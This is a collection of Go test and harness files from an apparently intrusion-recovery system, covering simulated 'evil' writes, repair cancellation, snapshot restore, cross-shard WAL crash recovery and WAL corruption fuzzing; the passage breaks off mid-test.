// restored into a fresh controller, and the background pump must resume
// delivery on its own — the queued repair message arrives exactly once
// (no duplication from the restore, no loss from the backoff state).
func TestRestoreResumesPumpExactlyOnce(t *testing.T) {
	clock := simnet.NewClock(1000)
	cfg := core.DefaultConfig()
	// A huge backoff base guarantees the peer is still mid-backoff at
	// capture time; only the restore (which starts the peer's delivery
	// health fresh) lets the message out again.
	cfg.Backoff = core.Backoff{Base: time.Hour, Factor: 2}
	cfg.Clock = clock.Now

	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, cfg)
	bus.Register("a", a)
	b := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, core.DefaultConfig())
	counter := &repairCounter{inner: b}
	bus.Register("b", counter)

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))

	// Repair while b is down: the delete message stays queued, and after
	// one failed flush the peer is backing off.
	bus.SetOffline("b", true)
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	_, preDrops := bus.Stats()
	a.Flush() // one failed attempt; b backs off for an hour of fake time
	a.Flush() // gated: must not even try
	if _, drops := bus.Stats(); drops-preDrops != 1 {
		t.Fatalf("peer not mid-backoff at capture time: %d attempts, want 1", drops-preDrops)
	}
	if a.QueueLen() != 1 {
		t.Fatalf("queue = %d, want 1", a.QueueLen())
	}

	// Crash: snapshot to disk, discard the controller, restore into a
	// fresh one whose pump is already running — Apply's queue import must
	// wake it (no manual Flush from here on).
	path := filepath.Join(t.TempDir(), "a.snap")
	if err := persist.SaveFile(a, path); err != nil {
		t.Fatal(err)
	}
	if snap := persist.Capture(a); len(snap.Queue) != 1 {
		t.Fatalf("snapshot queue = %d, want 1 (message lost at capture)", len(snap.Queue))
	}

	bus.SetOffline("b", false)
	a2 := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, cfg)
	bus.Register("a", a2)
	if err := a2.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer a2.StopPump()
	if err := persist.LoadFile(a2, path); err != nil {
		t.Fatal(err)
	}

	if !a2.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("restored pump did not deliver the queued repair: %d left, pending=%+v", a2.QueueLen(), a2.Pending())
	}
	// Exactly once: the offline-era attempts never reached b's handler, and
	// the restore must not have duplicated the message.
	if got := counter.count(); got != 1 {
		t.Fatalf("b received %d repair deliveries, want exactly 1", got)
	}
	if got := a2.Stats().MsgsDelivered; got != 1 {
		t.Fatalf("restored controller delivered %d messages, want 1", got)
	}
	// And not lost: b rolled back to the pre-attack value.
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b after restored repair = %q, want %q", got, "good")
	}
}
