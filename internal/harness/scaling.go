package harness

// Repair-scaling measurement backing BENCH_4.json and `airebench -table
// bench4`: the paper's Table 5 claim is that repair cost tracks the
// *affected* slice of the timeline. The scenario fixes the affected slice
// (one attacked put plus a constant set of readers) and grows only
// unrelated traffic, then times one repair pass under the index-driven
// walk and under the retained pre-index full-timeline walk.

import (
	"fmt"
	"time"

	"aire/internal/core"
	"aire/internal/warp"
	"aire/internal/wire"
)

// ScalingPoint is one row of the repair-scaling measurement.
type ScalingPoint struct {
	// Unaffected is how many unrelated put+get pairs pad the log.
	Unaffected int `json:"unaffected"`
	// Readers is the size of the fixed affected slice (readers of the
	// attacked key; the attacked put itself rides on top).
	Readers int `json:"readers"`
	// LogRecords is the resulting total log size.
	LogRecords int `json:"log_records"`
	// IndexedNs and LinearNs are the per-repair wall times of the
	// index-driven walk and the pre-index full-timeline walk.
	IndexedNs int64 `json:"indexed_ns_per_repair"`
	LinearNs  int64 `json:"linear_ns_per_repair"`
	// Speedup is LinearNs / IndexedNs.
	Speedup float64 `json:"speedup"`
	// Repaired is the number of requests each repair pass re-executed
	// (identical under both walks — the equivalence tests enforce it).
	Repaired int `json:"repaired_per_pass"`
	// DBIndexBytes and LogIndexBytes are the approximate memory of the
	// secondary index layers at measurement end (vdb per-model member
	// lists + scan fingerprints; repairlog respID map, call timelines,
	// inverted dep index, indexed-state bookkeeping) — the storage
	// overhead the paper-mirroring Table 4 byte accounting ignores, now
	// reported so the O(affected) speedup's memory price is on the record.
	DBIndexBytes  int64 `json:"db_index_bytes"`
	LogIndexBytes int64 `json:"log_index_bytes"`
}

// NewScalingWorld builds the fixed-attack repair-scaling scenario — one
// attacked put, `readers` readers of its key, `unaffected` unrelated
// put+get pairs — and returns the controller plus the attack's request ID.
// It is the single definition of the E18 world, shared by
// MeasureRepairScaling (BENCH_4.json) and BenchmarkRepairScaling*ByLogSize.
func NewScalingWorld(readers, unaffected int, linear bool) (*core.Controller, string) {
	cfg := core.DefaultConfig()
	cfg.Engine.LinearScan = linear
	tb := NewTestbed()
	a := tb.Add(&KVApp{ServiceName: "a"}, cfg)
	attack := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	for j := 0; j < readers; j++ {
		tb.MustCall("a", wire.NewRequest("GET", "/get").WithForm("key", "x"))
	}
	for j := 0; j < unaffected; j++ {
		key := fmt.Sprintf("u%d", j)
		tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", key, "val", "clean"))
		tb.MustCall("a", wire.NewRequest("GET", "/get").WithForm("key", key))
	}
	return a, attack.Header[wire.HdrRequestID]
}

// timeRepairs replaces the attack `iters` times and returns the average
// wall time per repair plus the per-pass repaired-request count. One
// untimed warmup pass pays the initial rollback of the attack's original
// value (and any cold caches) before measurement begins.
func timeRepairs(c *core.Controller, reqID string, iters int) (time.Duration, int, error) {
	replace := func(val string) (*warp.Result, error) {
		req := wire.NewRequest("POST", "/put").WithForm("key", "x", "val", val)
		return c.ApplyLocal(warp.Action{Kind: warp.ReplaceReq, ReqID: reqID, NewReq: req})
	}
	res, err := replace("warmup")
	if err != nil {
		return 0, 0, err
	}
	start := time.Now()
	for i := 0; i < iters; i++ {
		if _, err := replace(fmt.Sprintf("v%d", i)); err != nil {
			return 0, 0, err
		}
	}
	return time.Since(start) / time.Duration(iters), res.RepairedRequests, nil
}

// MeasureRepairScaling runs the repair-scaling scenario at each unaffected
// size, under both walks, and returns one point per size.
func MeasureRepairScaling(sizes []int, readers, iters int) ([]ScalingPoint, error) {
	points := make([]ScalingPoint, 0, len(sizes))
	for _, size := range sizes {
		p := ScalingPoint{Unaffected: size, Readers: readers}
		for _, linear := range []bool{false, true} {
			c, reqID := NewScalingWorld(readers, size, linear)
			per, repaired, err := timeRepairs(c, reqID, iters)
			if err != nil {
				return nil, fmt.Errorf("harness: scaling (unaffected=%d linear=%v): %w", size, linear, err)
			}
			if linear {
				p.LinearNs = per.Nanoseconds()
			} else {
				p.IndexedNs = per.Nanoseconds()
				p.LogRecords = c.Svc.Log.Len()
				p.Repaired = repaired
				p.DBIndexBytes = c.Svc.Store.IndexBytes()
				p.LogIndexBytes = c.Svc.Log.IndexBytes()
			}
		}
		if p.IndexedNs > 0 {
			p.Speedup = float64(p.LinearNs) / float64(p.IndexedNs)
		}
		points = append(points, p)
	}
	return points, nil
}
