package core

import (
	"fmt"
	"sync"
	"time"
)

// EventKind classifies controller events.
type EventKind string

// Controller event kinds.
const (
	// EvRequest: a normal request was handled.
	EvRequest EventKind = "request"
	// EvRepairApplied: a local repair ran.
	EvRepairApplied EventKind = "repair-applied"
	// EvRepairDenied: an incoming repair was rejected by Authorize.
	EvRepairDenied EventKind = "repair-denied"
	// EvMsgQueued: a repair message entered the outgoing queue.
	EvMsgQueued EventKind = "msg-queued"
	// EvMsgDelivered: a repair message reached its peer.
	EvMsgDelivered EventKind = "msg-delivered"
	// EvMsgHeld: a repair message was parked (unreachable or unauthorized).
	EvMsgHeld EventKind = "msg-held"
	// EvDupDelivery: an incoming repair delivery was re-acknowledged
	// without re-applying (the exactly-once dedup inbox recognized it).
	EvDupDelivery EventKind = "dup-delivery"
	// EvStaleDelivery: an incoming delivery carried a superseded content
	// generation and was acknowledged but discarded.
	EvStaleDelivery EventKind = "stale-delivery"
)

// Event is one observable controller action, for dashboards and the demo
// narration.
type Event struct {
	At      time.Time
	Service string
	Kind    EventKind
	// Subject identifies the request or message involved.
	Subject string
	// Detail is a human-readable summary.
	Detail string
}

func (e Event) String() string {
	return fmt.Sprintf("[%s] %-14s %-22s %s", e.Service, e.Kind, e.Subject, e.Detail)
}

// EventSink receives controller events. Implementations must be fast; they
// run inline (hold no controller locks, though).
type EventSink func(Event)

// eventHub fans events out to subscribers.
type eventHub struct {
	mu    sync.Mutex
	sinks []EventSink
}

func (h *eventHub) subscribe(s EventSink) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.sinks = append(h.sinks, s)
}

func (h *eventHub) emit(e Event) {
	h.mu.Lock()
	sinks := h.sinks
	h.mu.Unlock()
	for _, s := range sinks {
		s(e)
	}
}

// Subscribe registers a sink for this controller's events.
func (c *Controller) Subscribe(s EventSink) {
	c.events.subscribe(s)
}

func (c *Controller) emit(kind EventKind, subject, format string, args ...any) {
	c.events.mu.Lock()
	n := len(c.events.sinks)
	c.events.mu.Unlock()
	if n == 0 {
		return
	}
	c.events.emit(Event{
		At:      time.Now(),
		Service: c.Svc.Name,
		Kind:    kind,
		Subject: subject,
		Detail:  fmt.Sprintf(format, args...),
	})
}

// EventRecorder is a convenience sink collecting events in memory.
type EventRecorder struct {
	mu     sync.Mutex
	events []Event
}

// Sink returns the EventSink to pass to Subscribe.
func (r *EventRecorder) Sink() EventSink {
	return func(e Event) {
		r.mu.Lock()
		defer r.mu.Unlock()
		r.events = append(r.events, e)
	}
}

// Events returns a copy of the recorded events.
func (r *EventRecorder) Events() []Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Event(nil), r.events...)
}

// Count returns how many events of the given kind were recorded ("" counts
// all).
func (r *EventRecorder) Count(kind EventKind) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	if kind == "" {
		return len(r.events)
	}
	n := 0
	for _, e := range r.events {
		if e.Kind == kind {
			n++
		}
	}
	return n
}
