package persist_test

import (
	"fmt"
	"testing"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/wal"
	"aire/internal/warp"
	"aire/internal/wire"
)

// crossShardKeys returns two keys that hash to shard 0 and shard 1 of a
// two-shard "b", so one repair wave produces a genuinely cross-shard batch.
func crossShardKeys(t *testing.T, topo *core.ShardTopology) (k0, k1 string) {
	t.Helper()
	for i := 0; i < 64 && (k0 == "" || k1 == ""); i++ {
		k := fmt.Sprintf("key-%d", i)
		switch topo.ShardOf("b", k) {
		case 0:
			if k0 == "" {
				k0 = k
			}
		case 1:
			if k1 == "" {
				k1 = k
			}
		}
	}
	if k0 == "" || k1 == "" {
		t.Fatal("could not find keys for both shards")
	}
	return k0, k1
}

// runCrossShardBatchCrash drives one cross-shard batch through a sharded
// receiver and crashes between (or inside) the two shards' independent WAL
// commits. An unsharded upstream "a" mirrors two keys to a two-shard "b"
// (one key per shard); cancelling both attack writes in one repair wave at
// "a" sends a repair carrier to each shard, which each shard accepts into
// its pending batch (two-phase gate, phase 1: a durable batch-accept on the
// shard's own WAL). ProcessIncoming then applies the batch shard by shard —
// phase 2, one atomic WAL entry per shard with no cross-shard log ordering.
//
// The crash is simulated by truncating shard i's WAL back to keep[i] entries
// past its accept point. Since the logs are independent, every combination
// of per-shard boundaries is a reachable power-loss state — including the
// interesting one where shard 0's commit is durable and shard 1's is not.
// After parallel recovery (persist.RecoverShards) the re-run of
// ProcessIncoming must make the batch whole from each shard's own durable
// state: either the shard had applied (entry durable, accepted actions
// drained) or its batch is still pending and re-applies. Returns both
// shards' values for the repaired keys and the per-shard entry counts the
// apply appended.
func runCrossShardBatchCrash(t *testing.T, keep [2]uint64) (vals [2]string, appended [2]uint64) {
	t.Helper()
	dirs := []string{t.TempDir(), t.TempDir()}
	bus := transport.NewBus()
	topo := core.NewShardTopology()
	topo.SetShards("b", 2)
	k0, k1 := crossShardKeys(t, topo)

	acfg := core.DefaultConfig()
	acfg.Topology = topo
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, acfg)
	bus.Register("a", a)

	shardCfg := core.DefaultConfig()
	shardCfg.BatchIncoming = true
	shardCfg.Topology = topo
	newShards := func() []*core.Controller {
		shards := make([]*core.Controller, 2)
		for i := range shards {
			name := topo.ShardName("b", i)
			shards[i] = core.NewController(&harness.KVApp{ServiceName: name}, bus, shardCfg)
			bus.Register(name, shards[i])
		}
		return shards
	}
	shards := newShards()
	writers, err := persist.RecoverShards(shards, dirs, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	bus.Register("b", core.NewShardedController("b", topo, shards))

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	putReq := func(key, val string) wire.Request {
		return wire.NewRequest("POST", "/put").WithForm("key", key, "val", val)
	}
	mustCall("a", putReq(k0, "good"))
	mustCall("a", putReq(k1, "good"))
	attack0 := mustCall("a", putReq(k0, "evil"))
	attack1 := mustCall("a", putReq(k1, "evil"))

	// One repair wave cancels both attacks: its cascade is one cross-shard
	// batch — a repair carrier to each shard of b.
	if _, err := a.ApplyLocal(
		warp.Action{Kind: warp.CancelReq, ReqID: attack0.Header[wire.HdrRequestID]},
		warp.Action{Kind: warp.CancelReq, ReqID: attack1.Header[wire.HdrRequestID]},
	); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		if d, _ := a.Flush(); d == 0 {
			break
		}
	}
	var accepted [2]uint64
	for i, s := range shards {
		if s.InboxLen() == 0 {
			t.Fatalf("shard %d did not accept its half of the cross-shard batch", i)
		}
		accepted[i] = writers[i].Seq()
	}

	// Phase 2: the router applies the pending batch shard by shard, each on
	// its own WAL.
	router := core.NewShardedController("b", topo, shards)
	if _, err := router.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	for i := range shards {
		appended[i] = writers[i].Seq() - accepted[i]
		if keep[i] > appended[i] {
			t.Fatalf("crash point %d past shard %d's %d entries", keep[i], i, appended[i])
		}
	}

	// Power loss: both WALs stop where they are, then shard i's log is cut
	// back to keep[i] entries past its accept point.
	for i, w := range writers {
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		truncateWALAfter(t, dirs[i], accepted[i]+keep[i])
	}

	// Parallel per-shard recovery, then a fresh router over the recovered
	// shards. The upstream saw 202s and reconciled, so nothing retries: each
	// shard must make its half whole from its own durable state.
	fresh := newShards()
	writers2, err := persist.RecoverShards(fresh, dirs, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		for _, w := range writers2 {
			w.Close()
		}
	}()
	router2 := core.NewShardedController("b", topo, fresh)
	bus.Register("b", router2)
	if _, err := router2.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		if d, _ := router2.Flush(); d == 0 {
			break
		}
	}
	vals[0] = string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", k0)).Body)
	vals[1] = string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", k1)).Body)
	return vals, appended
}

// TestCrossShardBatchSurvivesAnyCrashPoint sweeps every combination of
// per-shard WAL crash boundaries across one cross-shard batch commit. A
// shard's apply is one atomic entry on its own log, and there is no
// cross-shard ordering between the two logs — so the recovery invariant is
// exactly the two-phase gate's: at every boundary combination each shard
// recovers either to "applied" (entry durable) or to "pending" (accepted
// batch re-applies on the next ProcessIncoming), and the batch is never
// half-applied from the service's point of view once the gate re-runs.
// In particular keep={1,0} is the classic torn state: a crash after shard
// 0's commit but before shard 1's.
func TestCrossShardBatchSurvivesAnyCrashPoint(t *testing.T) {
	_, appended := runCrossShardBatchCrash(t, [2]uint64{0, 0})
	if appended[0] != 1 || appended[1] != 1 {
		t.Fatalf("cross-shard batch appended %v entries, want 1 atomic entry per shard", appended)
	}
	for keep0 := uint64(0); keep0 <= appended[0]; keep0++ {
		for keep1 := uint64(0); keep1 <= appended[1]; keep1++ {
			t.Run(fmt.Sprintf("keep=%d,%d", keep0, keep1), func(t *testing.T) {
				vals, _ := runCrossShardBatchCrash(t, [2]uint64{keep0, keep1})
				if vals[0] != "good" || vals[1] != "good" {
					t.Fatalf("crash at boundaries (%d,%d) half-applied the batch: values %v, want both %q",
						keep0, keep1, vals, "good")
				}
			})
		}
	}
}
