package wal

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

func mustAppend(t *testing.T, w *Writer, kind string, n int) uint64 {
	t.Helper()
	var last uint64
	for i := 0; i < n; i++ {
		data, _ := json.Marshal(map[string]int{"i": i})
		seq, err := w.Append(kind, int64(i), int64(i), []Op{{Kind: "test", Data: data}})
		if err != nil {
			t.Fatalf("append: %v", err)
		}
		last = seq
	}
	return last
}

func collect(t *testing.T, dir string, from uint64) (entries []Entry, last uint64, torn bool) {
	t.Helper()
	last, torn, err := Replay(dir, from, func(e Entry) error {
		entries = append(entries, e)
		return nil
	})
	if err != nil {
		t.Fatalf("replay: %v", err)
	}
	return entries, last, torn
}

func TestRoundTrip(t *testing.T) {
	dir := t.TempDir()
	w, err := Open(dir, Options{Policy: FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	mustAppend(t, w, "exec", 10)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	entries, last, torn := collect(t, dir, 0)
	if len(entries) != 10 || last != 10 || torn {
		t.Fatalf("got %d entries last=%d torn=%v", len(entries), last, torn)
	}
	for i, e := range entries {
		if e.Seq != uint64(i+1) || e.Kind != "exec" || len(e.Ops) != 1 {
			t.Fatalf("entry %d malformed: %+v", i, e)
		}
	}
	// fromSeq skips the prefix.
	tail, _, _ := collect(t, dir, 7)
	if len(tail) != 3 || tail[0].Seq != 8 {
		t.Fatalf("fromSeq replay wrong: %+v", tail)
	}
}

func TestReopenResumesSeq(t *testing.T) {
	dir := t.TempDir()
	w, _ := Open(dir, Options{})
	mustAppend(t, w, "a", 5)
	w.Close()
	w2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if w2.Seq() != 5 {
		t.Fatalf("resumed seq = %d, want 5", w2.Seq())
	}
	mustAppend(t, w2, "b", 3)
	w2.Close()
	entries, last, _ := collect(t, dir, 0)
	if last != 8 || len(entries) != 8 {
		t.Fatalf("last=%d n=%d", last, len(entries))
	}
}

func TestRotationAndTruncate(t *testing.T) {
	dir := t.TempDir()
	w, _ := Open(dir, Options{SegmentBytes: 256})
	mustAppend(t, w, "x", 40)
	w.Close()
	names, _ := Segments(dir)
	if len(names) < 3 {
		t.Fatalf("expected rotation, got segments %v", names)
	}
	entries, last, torn := collect(t, dir, 0)
	if len(entries) != 40 || last != 40 || torn {
		t.Fatalf("post-rotation replay: n=%d last=%d torn=%v", len(entries), last, torn)
	}

	// Truncate to a checkpoint at seq 20: segments fully below the next
	// segment's first-seq go away, replay from 20 still works.
	removed, err := Truncate(dir, 20)
	if err != nil {
		t.Fatal(err)
	}
	if len(removed) == 0 {
		t.Fatal("expected segment removal")
	}
	tail, last, _ := collect(t, dir, 20)
	if last != 40 {
		t.Fatalf("last=%d after truncate", last)
	}
	for _, e := range tail {
		if e.Seq <= 20 {
			t.Fatalf("replayed pre-checkpoint entry %d", e.Seq)
		}
	}
	if tail[0].Seq != 21 {
		t.Fatalf("first replayed = %d, want 21", tail[0].Seq)
	}

	// Reopen after truncation must still resume.
	w2, err := Open(dir, Options{SegmentBytes: 256})
	if err != nil {
		t.Fatal(err)
	}
	if w2.Seq() != 40 {
		t.Fatalf("seq after reopen = %d", w2.Seq())
	}
	w2.Close()
}

func TestTornTailTolerated(t *testing.T) {
	dir := t.TempDir()
	w, _ := Open(dir, Options{})
	mustAppend(t, w, "x", 6)
	w.Close()
	names, _ := Segments(dir)
	path := filepath.Join(dir, names[len(names)-1])
	data, _ := os.ReadFile(path)
	// Chop mid-way through the final record's payload.
	if err := os.WriteFile(path, data[:len(data)-3], 0o644); err != nil {
		t.Fatal(err)
	}
	entries, last, torn := collect(t, dir, 0)
	if !torn {
		t.Fatal("expected torn tail")
	}
	if last != 5 || len(entries) != 5 {
		t.Fatalf("torn replay: n=%d last=%d", len(entries), last)
	}
	// Open truncates the torn tail and appends cleanly after it.
	w2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if w2.Seq() != 5 {
		t.Fatalf("seq after torn reopen = %d", w2.Seq())
	}
	mustAppend(t, w2, "y", 1)
	w2.Close()
	entries, last, torn = collect(t, dir, 0)
	if torn || last != 6 || len(entries) != 6 {
		t.Fatalf("after repair: n=%d last=%d torn=%v", len(entries), last, torn)
	}
}

func TestCrashLoseUnderFsyncPolicies(t *testing.T) {
	t.Run("every", func(t *testing.T) {
		dir := t.TempDir()
		w, _ := Open(dir, Options{Policy: FsyncEveryCommit})
		mustAppend(t, w, "x", 7)
		lost, err := w.CrashLose()
		if err != nil {
			t.Fatal(err)
		}
		if lost != 0 {
			t.Fatalf("fsync=every lost %d bytes", lost)
		}
		_, last, _ := collect(t, dir, 0)
		if last != 7 {
			t.Fatalf("last=%d, want 7", last)
		}
	})
	t.Run("none", func(t *testing.T) {
		dir := t.TempDir()
		w, _ := Open(dir, Options{Policy: FsyncNone})
		mustAppend(t, w, "x", 7)
		lost, err := w.CrashLose()
		if err != nil {
			t.Fatal(err)
		}
		if lost == 0 {
			t.Fatal("fsync=none power loss lost nothing")
		}
		entries, last, torn := collect(t, dir, 0)
		if len(entries) != 0 || last != 0 || torn {
			t.Fatalf("fsync=none survived: n=%d last=%d torn=%v", len(entries), last, torn)
		}
		// The directory must still be reopenable.
		w2, err := Open(dir, Options{})
		if err != nil {
			t.Fatal(err)
		}
		w2.Close()
	})
	t.Run("interval", func(t *testing.T) {
		dir := t.TempDir()
		w, _ := Open(dir, Options{Policy: FsyncInterval, Interval: 4})
		mustAppend(t, w, "x", 10) // syncs at 4 and 8
		if _, err := w.CrashLose(); err != nil {
			t.Fatal(err)
		}
		_, last, _ := collect(t, dir, 0)
		if last != 8 {
			t.Fatalf("fsync=interval(4) kept last=%d, want 8", last)
		}
	})
}

// TestWALCorruption is the CI corruption smoke (satellite 2): truncations
// and bit flips anywhere in the log either replay cleanly up to a torn
// final tail, or fail loudly with ErrCorrupt — never a silent gap.
func TestWALCorruption(t *testing.T) {
	build := func(t *testing.T) string {
		dir := t.TempDir()
		w, _ := Open(dir, Options{SegmentBytes: 512})
		mustAppend(t, w, "x", 30)
		w.Close()
		return dir
	}
	verify := func(t *testing.T, dir string, mutated string) {
		var seqs []uint64
		last, torn, err := Replay(dir, 0, func(e Entry) error {
			seqs = append(seqs, e.Seq)
			return nil
		})
		if err != nil {
			if !errors.Is(err, ErrCorrupt) {
				t.Fatalf("%s: non-ErrCorrupt failure: %v", mutated, err)
			}
			return // loud failure: acceptable
		}
		// Clean replay: the surviving entries must form a gapless prefix —
		// only a contiguous tail may be missing (a tail cut at an exact
		// record boundary is indistinguishable from a clean shutdown; the
		// fsync gate, not the CRC, is what pins the tail). A hole in the
		// middle would be a silently dropped committed record.
		_ = torn
		for i, s := range seqs {
			if i == 0 {
				if s != 1 {
					t.Fatalf("%s: replay starts at %d, not 1", mutated, s)
				}
			} else if s != seqs[i-1]+1 {
				t.Fatalf("%s: silent gap: %d follows %d", mutated, s, seqs[i-1])
			}
		}
		if len(seqs) > 0 && seqs[len(seqs)-1] != last {
			t.Fatalf("%s: last mismatch", mutated)
		}
	}

	t.Run("truncate-tails", func(t *testing.T) {
		ref := build(t)
		names, _ := Segments(ref)
		lastPath := filepath.Join(ref, names[len(names)-1])
		data, _ := os.ReadFile(lastPath)
		for cut := 1; cut < len(data); cut += 7 {
			dir := build(t)
			names, _ := Segments(dir)
			p := filepath.Join(dir, names[len(names)-1])
			d, _ := os.ReadFile(p)
			os.WriteFile(p, d[:len(d)-cut], 0o644)
			verify(t, dir, fmt.Sprintf("truncate %d", cut))
		}
	})
	t.Run("bit-flips", func(t *testing.T) {
		ref := build(t)
		names, _ := Segments(ref)
		for si, name := range names {
			data, _ := os.ReadFile(filepath.Join(ref, name))
			for pos := 0; pos < len(data); pos += 13 {
				dir := build(t)
				ns, _ := Segments(dir)
				p := filepath.Join(dir, ns[si])
				d, _ := os.ReadFile(p)
				d[pos] ^= 0x40
				os.WriteFile(p, d, 0o644)
				verify(t, dir, fmt.Sprintf("flip seg%d@%d", si, pos))
			}
		}
	})
}

// FuzzWALReplay fuzzes arbitrary mutations of a valid log: Replay must
// either error (loudly) or produce a gapless, in-order entry sequence.
func FuzzWALReplay(f *testing.F) {
	f.Add(uint32(0), uint8(0))
	f.Add(uint32(100), uint8(0xff))
	f.Add(uint32(7), uint8(1))
	f.Fuzz(func(t *testing.T, pos uint32, flip uint8) {
		dir := t.TempDir()
		w, err := Open(dir, Options{SegmentBytes: 512})
		if err != nil {
			t.Skip()
		}
		mustAppendF(t, w, 20)
		w.Close()
		names, _ := Segments(dir)
		if len(names) == 0 {
			t.Skip()
		}
		p := filepath.Join(dir, names[int(pos)%len(names)])
		data, _ := os.ReadFile(p)
		if len(data) == 0 {
			t.Skip()
		}
		i := int(pos) % len(data)
		if flip == 0 {
			data = data[:i] // truncation
		} else {
			data[i] ^= flip // bit flip
		}
		os.WriteFile(p, data, 0o644)

		var prev uint64
		first := true
		_, _, err = Replay(dir, 0, func(e Entry) error {
			if !first && e.Seq != prev+1 {
				t.Fatalf("silent gap: %d after %d", e.Seq, prev)
			}
			first = false
			prev = e.Seq
			return nil
		})
		if err != nil && !errors.Is(err, ErrCorrupt) {
			t.Fatalf("non-ErrCorrupt replay failure: %v", err)
		}
	})
}

func mustAppendF(t *testing.T, w *Writer, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		data, _ := json.Marshal(map[string]int{"i": i})
		if _, err := w.Append("fuzz", int64(i), 0, []Op{{Kind: "t", Data: data}}); err != nil {
			t.Fatalf("append: %v", err)
		}
	}
}

func TestParsePolicy(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want FsyncPolicy
	}{{"every", FsyncEveryCommit}, {"interval", FsyncInterval}, {"none", FsyncNone}} {
		got, err := ParsePolicy(tc.in)
		if err != nil || got != tc.want {
			t.Fatalf("ParsePolicy(%q) = %v, %v", tc.in, got, err)
		}
		if got.String() != tc.in {
			t.Fatalf("String() = %q, want %q", got.String(), tc.in)
		}
	}
	if _, err := ParsePolicy("sometimes"); err == nil {
		t.Fatal("expected error")
	}
}

func TestHeaderlessFinalSegmentRebuilt(t *testing.T) {
	dir := t.TempDir()
	w, _ := Open(dir, Options{SegmentBytes: 128})
	mustAppend(t, w, "x", 10)
	w.Close()
	names, _ := Segments(dir)
	if len(names) < 2 {
		t.Skip("need rotation")
	}
	// Simulate a segment created but torn before its header landed.
	p := filepath.Join(dir, names[len(names)-1])
	os.WriteFile(p, []byte{0x01, 0x02}, 0o644)
	w2, err := Open(dir, Options{SegmentBytes: 128})
	if err != nil {
		t.Fatal(err)
	}
	mustAppend(t, w2, "y", 1)
	w2.Close()
	_, _, err = Replay(dir, 0, nil)
	if err != nil {
		t.Fatalf("replay after rebuild: %v", err)
	}
}

func TestMidLogCorruptionLoud(t *testing.T) {
	dir := t.TempDir()
	w, _ := Open(dir, Options{})
	mustAppend(t, w, "x", 5)
	w.Close()
	names, _ := Segments(dir)
	p := filepath.Join(dir, names[0])
	data, _ := os.ReadFile(p)
	// Flip a byte inside the first record's payload (past header+frame).
	data[headerSize+frameSize+2] ^= 0xff
	os.WriteFile(p, data, 0o644)
	_, _, err := Replay(dir, 0, nil)
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("want ErrCorrupt, got %v", err)
	}
	if _, err := Open(dir, Options{}); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Open should refuse corrupt log, got %v", err)
	}
}
