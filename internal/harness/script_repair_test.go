package harness

import (
	"testing"

	"aire/internal/core"
	"aire/internal/wire"
)

// TestCancelScriptInstallationUnwindsItsActions cancels the request that
// *installed* the directory's distribution script. Every ACL distribution
// the script ever performed was a side effect of later /set requests
// re-reading the script model, so repair re-executes those /sets without
// the script — and deletes the distributions on the sheets.
func TestCancelScriptInstallationUnwindsItsActions(t *testing.T) {
	tb := NewTestbed()
	dir := tb.Add(newSheet("dir"), core.DefaultConfig())
	tb.Add(newSheet("sheetA"), core.DefaultConfig())
	tb.FreezeTime(1_380_000_000)

	seed := func(svc, path string, kv ...string) wire.Response {
		return tb.MustCall(svc, wire.NewRequest("POST", path).WithForm(kv...).
			WithHeader("X-Bootstrap", BootstrapToken))
	}
	for _, svc := range []string{"dir", "sheetA"} {
		seed(svc, "/seed/token", "user", DirectorUser, "value", DirectorToken)
		seed(svc, "/seed/token", "user", AdminUser, "value", AdminToken)
		seed(svc, "/seed/acl", "user", DirectorUser, "perms", "rwa")
	}
	seed("dir", "/seed/acl", "user", AdminUser, "perms", "rw")

	// Install the distribution script — this request is the repair target.
	install := seed("dir", "/seed/script", "id", "dist-a", "trigger", "acl:sheetA:",
